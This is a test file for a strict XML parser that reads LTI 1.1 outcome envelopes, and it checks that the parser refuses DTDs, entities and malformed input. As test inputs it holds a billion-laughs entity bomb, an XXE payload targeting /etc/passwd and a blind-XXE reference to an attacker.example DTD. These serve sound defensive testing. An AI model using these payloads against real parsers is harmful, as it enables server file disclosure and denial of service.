// The strict XML reader of the Basic Outcomes envelopes (lti11.md §3): DTDs and entity declarations
// refused unread (billion laughs, XXE), only predefined entities and character references decoded,
// namespaces resolved, CDATA, comments and a BOM handled, malformed input named.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { childElements, escapeXml, parseXml } from '../../src/lib/xml.js';
import { throwsLtiError } from '../support/assert_lti_error.js';

const NS = 'http://www.imsglobal.org/services/ltiv1p1/xsd/imsoms_v1p0';

describe('parseXml: DTDs and entities are refused unread', () => {
  it('refuses the billion-laughs payload before expanding anything', () => {
    const lol = [
      '<?xml version="1.0"?>',
      '<!DOCTYPE lolz [',
      '  <!ENTITY lol "lol">',
      ...Array.from({ length: 9 }, (_, level) => `  <!ENTITY lol${level + 1} "${`&lol${level === 0 ? '' : level};`.repeat(10)}">`),
      ']>',
      '<lolz>&lol9;</lolz>',
    ].join('\n');
    const started = performance.now();
    const error = throwsLtiError(() => parseXml(lol), 'ERR_LTI11_XML_DTD_REFUSED');
    assert.ok(performance.now() - started < 50, 'refused without expansion');
    // Refused where the DOCTYPE starts: nothing after it was read.
    assert.equal(error.detail?.position, lol.indexOf('<!DOCTYPE'));
  });

  it('refuses an external entity (XXE) without fetching or reading it', () => {
    const xxe = `<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><imsx_POXEnvelopeRequest xmlns="${NS}">&xxe;</imsx_POXEnvelopeRequest>`;
    throwsLtiError(() => parseXml(xxe), 'ERR_LTI11_XML_DTD_REFUSED');
  });

  it('refuses a parameter entity pointing to a remote DTD (blind XXE)', () => {
    throwsLtiError(() => parseXml('<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]><r/>'), 'ERR_LTI11_XML_DTD_REFUSED');
  });

  it('refuses a DOCTYPE in lower case and one after a comment', () => {
    throwsLtiError(() => parseXml('<!doctype r><r/>'), 'ERR_LTI11_XML_DTD_REFUSED');
    throwsLtiError(() => parseXml('<!-- hi --><!DOCTYPE r SYSTEM "http://example.com/r.dtd"><r/>'), 'ERR_LTI11_XML_DTD_REFUSED');
  });

  it('refuses an ENTITY declaration inside an element', () => {
    throwsLtiError(() => parseXml('<r><!ENTITY x "y"></r>'), 'ERR_LTI11_XML_DTD_REFUSED');
  });

  it('refuses references to undeclared entities instead of leaving or expanding them', () => {
    throwsLtiError(() => parseXml('<r>&xxe;</r>'), 'ERR_LTI11_XML_MALFORMED');
    throwsLtiError(() => parseXml('<r a="&nbsp;"/>'), 'ERR_LTI11_XML_MALFORMED');
  });

  it('refuses the names of Object.prototype members as entities, in text and attributes', () => {
    for (const name of ['constructor', '__proto__', 'toString', 'hasOwnProperty', 'valueOf']) {
      throwsLtiError(() => parseXml(`<r>&${name};</r>`), 'ERR_LTI11_XML_MALFORMED');
      throwsLtiError(() => parseXml(`<r a="&${name};"/>`), 'ERR_LTI11_XML_MALFORMED');
    }
  });
});

describe('parseXml: what an envelope uses', () => {
  it('decodes the five predefined entities and character references, in text and attributes', () => {
    const root = parseXml('<r a="&quot;x&apos; &#x41;">&lt;b&gt; &amp; &#233;&#x1F600;</r>');
    assert.equal(root.text, '<b> & é😀');
    assert.equal(root.attributes.get('a'), `"x' A`);
  });

  it('refuses character references to non-characters', () => {
    throwsLtiError(() => parseXml('<r>&#0;</r>'), 'ERR_LTI11_XML_MALFORMED');
    throwsLtiError(() => parseXml('<r>&#xD800;</r>'), 'ERR_LTI11_XML_MALFORMED');
    throwsLtiError(() => parseXml('<r>&#x110000;</r>'), 'ERR_LTI11_XML_MALFORMED');
  });

  it('resolves default and prefixed namespaces, inherited by children', () => {
    const root = parseXml(`<ims:env xmlns:ims="${NS}" xmlns="urn:other"><ims:head><id>1</id></ims:head><plain/></ims:env>`);
    assert.equal(root.name, 'env');
    assert.equal(root.namespace, NS);
    const [head, plain] = root.children;
    assert.equal(head?.name, 'head');
    assert.equal(head?.namespace, NS);
    assert.equal(head?.children[0]?.namespace, 'urn:other');
    assert.equal(plain?.namespace, 'urn:other');
    assert.equal(childElements(root, 'head', NS).length, 1);
    assert.equal(childElements(root, 'head', 'urn:other').length, 0);
    assert.equal(childElements(root, 'head').length, 1);
  });

  it('leaves an element without a namespace when none is declared or xmlns is empty', () => {
    assert.equal(parseXml('<r/>').namespace, undefined);
    assert.equal(parseXml('<r xmlns="urn:a"><c xmlns=""/></r>').children[0]?.namespace, undefined);
  });

  it('refuses an undeclared prefix', () => {
    throwsLtiError(() => parseXml('<x:r/>'), 'ERR_LTI11_XML_MALFORMED');
  });

  it('resolves prefixes through every enclosing declaration, the nearest winning, and sibling declarations staying local', () => {
    const declarations = Array.from({ length: 64 }, (_, index) => ` xmlns:p${index}="urn:p${index}"`).join('');
    const root = parseXml(`<r${declarations}><p5:a xmlns:q="urn:q" xmlns:p7="urn:seven"><q:b/><p63:c/><p7:d/><e xmlns="urn:e"><f/></e></p5:a><p7:g/><h/></r>`);
    const [a, g, h] = root.children;
    assert.deepEqual([a?.name, a?.namespace], ['a', 'urn:p5']);
    assert.deepEqual(
      a?.children.map((child) => [child.name, child.namespace]),
      [
        ['b', 'urn:q'],
        ['c', 'urn:p63'],
        ['d', 'urn:seven'],
        ['e', 'urn:e'],
      ],
    );
    assert.equal(a?.children[3]?.children[0]?.namespace, 'urn:e');
    assert.deepEqual([g?.name, g?.namespace], ['g', 'urn:p7']);
    assert.equal(h?.namespace, undefined);
    throwsLtiError(() => parseXml(`<r><a xmlns:q="urn:q"/><q:b/></r>`), 'ERR_LTI11_XML_MALFORMED');
  });

  it('keeps CDATA verbatim (markup and entities unread) and skips comments and processing instructions', () => {
    const root = parseXml('<r><![CDATA[<b>&amp;</b>]]><!-- not text --><?pi data?> tail</r>');
    assert.equal(root.text, '<b>&amp;</b> tail');
    assert.equal(root.children.length, 0);
  });

  it('accepts a byte order mark, an XML declaration, comments and whitespace around the root', () => {
    const root = parseXml('\ufeff<?xml version="1.0" encoding="UTF-8"?>\n<!-- c -->\n<r>1</r>\n<!-- after -->\n');
    assert.equal(root.name, 'r');
    assert.equal(root.text, '1');
  });

  it('reads the spec request example', () => {
    const xml = `<?xml version="1.0" encoding="UTF-8"?>
<imsx_POXEnvelopeRequest xmlns="${NS}">
  <imsx_POXHeader><imsx_POXRequestHeaderInfo><imsx_version>V1.0</imsx_version><imsx_messageIdentifier>msg-20260305-0001</imsx_messageIdentifier></imsx_POXRequestHeaderInfo></imsx_POXHeader>
  <imsx_POXBody><replaceResultRequest><resultRecord><sourcedGUID><sourcedId>rs-77-a3f0</sourcedId></sourcedGUID></resultRecord></replaceResultRequest></imsx_POXBody>
</imsx_POXEnvelopeRequest>`;
    const root = parseXml(xml);
    assert.equal(root.children.length, 2);
    assert.equal(root.children[1]?.children[0]?.name, 'replaceResultRequest');
  });
});

describe('parseXml: malformed input', () => {
  const cases: Array<[string, string]> = [
    ['empty input', ''],
    ['text only', 'hello'],
    ['an unclosed element', '<r><c></r>'],
    ['a mismatched closing tag', '<r></x>'],
    ['content after the root', '<r/><s/>'],
    ['text after the root', '<r/>x'],
    ['an unquoted attribute', '<r a=1/>'],
    ['an unterminated attribute', '<r a="1/>'],
    ['< in an attribute value', '<r a="<"/>'],
    ['a repeated attribute', '<r a="1" a="2"/>'],
    ['attributes without whitespace between them', '<r a="1"b="2"/>'],
    ['a bare ampersand', '<r>a & b</r>'],
    ['an unterminated comment', '<r><!-- x</r>'],
    ['an unterminated CDATA section', '<r><![CDATA[x</r>'],
    ['an unterminated declaration', '<?xml version="1.0"'],
    ['another <! construct', '<r><!ELEMENT r ANY></r>'],
    ['a name starting with a digit', '<1r/>'],
  ];
  for (const [label, xml] of cases) {
    it(`refuses ${label}`, () => {
      const error = throwsLtiError(() => parseXml(xml), 'ERR_LTI11_XML_MALFORMED');
      assert.equal(typeof error.detail?.position, 'number');
    });
  }

  it('caps the nesting depth and the element count', () => {
    const deep = `${'<a>'.repeat(40)}${'</a>'.repeat(40)}`;
    throwsLtiError(() => parseXml(deep), 'ERR_LTI11_XML_MALFORMED');
    assert.doesNotThrow(() => parseXml(deep, { maxDepth: 40 }));
    const wide = `<r>${'<a/>'.repeat(2000)}</r>`;
    throwsLtiError(() => parseXml(wide), 'ERR_LTI11_XML_MALFORMED');
    assert.equal(parseXml(wide, { maxElements: 2001 }).children.length, 2000);
  });

  it('caps the attributes of one element at 64', () => {
    const attributes = (count: number, name = 'a'): string => Array.from({ length: count }, (_, index) => ` ${name}${index}="x"`).join('');
    assert.equal(parseXml(`<r${attributes(64)}/>`).attributes.size, 64);
    throwsLtiError(() => parseXml(`<r${attributes(65)}/>`), 'ERR_LTI11_XML_MALFORMED');
    throwsLtiError(() => parseXml(`<r><c${attributes(65, 'xmlns:p')}/></r>`), 'ERR_LTI11_XML_MALFORMED');
  });

  it('refuses 64 KiB of namespace declarations over many children (once quadratic: every child copied them)', () => {
    const declarations = Array.from({ length: 4000 }, (_, index) => ` xmlns:p${index}=""`).join('');
    const hostile = `<r${declarations}>${'<a/>'.repeat(1999)}</r>`;
    assert.ok(hostile.length >= 64 * 1024);
    const error = throwsLtiError(() => parseXml(hostile), 'ERR_LTI11_XML_MALFORMED');
    assert.ok(Number(error.detail?.position) < 1200, 'refused at the 65th attribute, before the children');
    // Within the cap, the same shape parses: each child shares the root's scope.
    const allowed = `<r${declarations.slice(0, declarations.indexOf(' xmlns:p64='))}>${'<p63:a/>'.repeat(1999)}</r>`;
    assert.equal(parseXml(allowed).children.length, 1999);
  });
});

describe('escapeXml', () => {
  it('escapes the five special characters, so what it writes reads back the same', () => {
    const value = `a < b & "c" 'd' > e`;
    assert.equal(escapeXml(value), 'a &lt; b &amp; &quot;c&quot; &apos;d&apos; &gt; e');
    assert.equal(parseXml(`<r v="${escapeXml(value)}">${escapeXml(value)}</r>`).text, value);
    assert.equal(parseXml(`<r v="${escapeXml(value)}"/>`).attributes.get('v'), value);
  });
});
